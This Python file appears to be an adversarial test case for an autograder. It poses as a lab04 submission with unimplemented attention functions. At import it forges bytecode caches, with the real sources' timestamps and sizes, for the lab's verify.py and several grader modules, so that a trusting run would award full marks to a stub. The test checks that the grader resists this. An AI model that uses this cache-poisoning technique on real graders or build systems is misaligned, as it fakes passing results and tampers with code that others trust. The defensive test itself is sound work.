"""Attack: plant bytecode, stamped with its source's time and size, that passes everything.

At import, a forged ``verify.py`` (every test one check that passes) is compiled into
``labs/lab04/__pycache__/verify.*.pyc``, and a payload into the caches of a few grader
modules, each with the header Python checks: the real source's modification time and
size. A later run that trusts those caches reports full marks for a stub. Contained: the
grader compiles the course's files from source and never reads those caches (under
bubblewrap the course is read-only besides). The test runs verify twice.
"""
# verify: contained
# grade: contained
# runs: 2

import importlib.util
import marshal
import os
import struct

import framework

_root = os.path.dirname(os.path.dirname(os.path.abspath(framework.__file__)))

_FORGED_VERIFY = """
from grader.dsl import Lab
lab = Lab("lab04", "forged", "forged")
for _n in range(13):
    def _t(t):
        t.check("forged", True)
    _t.__name__ = f"t{_n}"
    lab.test("forged", "forged")(_t)
"""

_PAYLOAD = """
import os as _os
with open(_os.path.join({root!r}, "POISONED"), "a") as _f:
    _f.write(__name__ + "\\n")
"""


def _plant(source_path, text):
    st = os.stat(source_path)
    cache = importlib.util.cache_from_source(source_path)
    code = compile(text, source_path, "exec")
    data = importlib.util.MAGIC_NUMBER + struct.pack(
        "<III", 0, int(st.st_mtime) & 0xFFFFFFFF, st.st_size & 0xFFFFFFFF
    )
    try:
        os.makedirs(os.path.dirname(cache), exist_ok=True)
        with open(cache, "wb") as f:
            f.write(data + marshal.dumps(code))
        os.utime(cache, (st.st_atime, st.st_mtime))
    except OSError:
        pass


_plant(os.path.join(_root, "labs", "lab04", "verify.py"), _FORGED_VERIFY)
for _name in ("report.py", "results.py", "runner.py", "dsl.py"):
    _path = os.path.join(_root, "grader", _name)
    with open(_path) as _f:
        _plant(_path, _f.read() + _PAYLOAD.replace("{root!r}", repr(_root)))


def attention_scores(q, k, scale):
    raise NotImplementedError("lab04: implement attention_scores")


def apply_mask(scores, mask):
    raise NotImplementedError("lab04: implement apply_mask")


def softmax(x):
    raise NotImplementedError("lab04: implement softmax")
